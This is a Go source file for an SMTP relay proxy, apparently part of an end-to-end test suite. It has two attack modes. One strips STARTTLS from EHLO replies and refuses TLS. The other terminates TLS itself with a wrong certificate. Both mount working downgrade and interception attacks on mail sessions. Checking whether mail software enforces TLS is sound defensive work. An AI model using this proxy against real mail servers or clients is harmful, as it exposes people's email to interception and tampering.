package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"log/slog"
	"net"
	"strings"
	"sync"
	"time"
)

// proxy relays one SMTP session between a sender and the real receiver.
type proxy struct {
	upstream string
	strip    bool        // remove STARTTLS from every EHLO reply, refuse STARTTLS
	tls      *tls.Config // terminate STARTTLS with this configuration (mode wrongcert)
	log      *slog.Logger
}

// session is the client side of one relayed connection; the writer changes when the
// attacker terminates TLS itself.
type session struct {
	mu      sync.Mutex
	w       io.Writer
	tlsDone bool
}

func (s *session) write(b []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, err := s.w.Write(b)
	return err
}

func (p *proxy) serve(ctx context.Context, client net.Conn) {
	defer client.Close()
	log := p.log.With("client", client.RemoteAddr().String())
	d := net.Dialer{Timeout: 5 * time.Second}
	up, err := d.DialContext(ctx, "tcp", p.upstream)
	if err != nil {
		log.Error("upstream", "err", err)
		return
	}
	defer up.Close()
	log.Info("session", "strip", p.strip, "wrongcert", p.tls != nil)
	if !p.strip && p.tls == nil {
		// Honest path: pass each side's end of stream on as a half-close, so what the
		// receiver sends after the client's last bytes (221 to a pipelined QUIT, its TLS
		// close_notify) still reaches the client, as without the path.
		go func() {
			io.Copy(up, client)
			closeWrite(up)
		}()
		io.Copy(client, up)
		return
	}
	s := &session{w: client}
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer client.Close()
		p.replies(s, bufio.NewReader(up), log)
	}()
	p.commands(s, client, up, log)
	up.Close()
	<-done
}

// replies copies the receiver's replies to the client, removing the STARTTLS extension
// from them whenever the client must not see it, and logs each removal (the end-to-end
// suite reads the log to show the attacker was on the path).
func (p *proxy) replies(s *session, ur *bufio.Reader, log *slog.Logger) {
	for {
		reply, err := readReply(ur)
		if err != nil {
			return
		}
		s.mu.Lock()
		hide := p.strip || s.tlsDone
		s.mu.Unlock()
		if hide {
			n := len(reply)
			if reply = dropExtension(reply, "STARTTLS"); len(reply) < n {
				log.Info("removed STARTTLS from the EHLO reply")
			}
		}
		if s.write([]byte(strings.Join(reply, ""))) != nil {
			return
		}
	}
}

// commands copies the client's commands to the receiver until the first MAIL command,
// handling STARTTLS itself; after that it copies bytes unchanged (message data included).
func (p *proxy) commands(s *session, client net.Conn, up net.Conn, log *slog.Logger) {
	cr := bufio.NewReader(client)
	for {
		line, err := cr.ReadString('\n')
		if err != nil {
			return
		}
		verb := strings.ToUpper(strings.TrimSpace(line))
		switch {
		case verb == "STARTTLS" && p.tls == nil:
			log.Info("refusing STARTTLS")
			if s.write([]byte("454 4.7.0 TLS not available due to local problem\r\n")) != nil {
				return
			}
			continue
		case verb == "STARTTLS":
			// RFC 3207 §4: the client sends nothing after STARTTLS until the handshake, so
			// no receiver reply is pending and the attacker can answer in its place.
			s.mu.Lock()
			_, err := s.w.Write([]byte("220 2.0.0 Ready to start TLS\r\n"))
			if err != nil {
				s.mu.Unlock()
				return
			}
			tc := tls.Server(client, p.tls)
			err = tc.Handshake()
			s.w, s.tlsDone = tc, err == nil
			s.mu.Unlock()
			if err != nil {
				log.Info("TLS handshake with the client failed", "err", err)
				return
			}
			log.Info("terminated TLS with the wrong certificate")
			cr = bufio.NewReader(tc)
			continue
		}
		if _, err := up.Write([]byte(line)); err != nil {
			return
		}
		if strings.HasPrefix(verb, "MAIL") {
			io.Copy(up, cr)
			return
		}
	}
}

// readReply reads one SMTP reply: lines "ddd-text" ending with "ddd text" (RFC 5321 §4.2).
func readReply(r *bufio.Reader) ([]string, error) {
	var lines []string
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return nil, err
		}
		lines = append(lines, line)
		if len(line) < 4 || line[3] != '-' {
			return lines, nil
		}
	}
}

// dropExtension removes the EHLO keyword ext from a multi-line reply and repairs the
// continuation marks so that the last remaining line ends the reply.
func dropExtension(reply []string, ext string) []string {
	if len(reply) < 2 {
		return reply
	}
	var out []string
	for i, line := range reply {
		if i > 0 && len(line) >= 4 {
			kw, _, _ := strings.Cut(strings.TrimSpace(line[4:]), " ")
			if strings.EqualFold(kw, ext) {
				continue
			}
		}
		out = append(out, line)
	}
	for i, line := range out {
		if len(line) < 4 {
			continue
		}
		sep := "-"
		if i == len(out)-1 {
			sep = " "
		}
		out[i] = line[:3] + sep + line[4:]
	}
	return out
}

// closeWrite shuts down the writing side of a TCP connection (the peer reads EOF), or
// closes any other connection.
func closeWrite(c net.Conn) {
	if tc, ok := c.(*net.TCPConn); ok {
		tc.CloseWrite()
		return
	}
	c.Close()
}
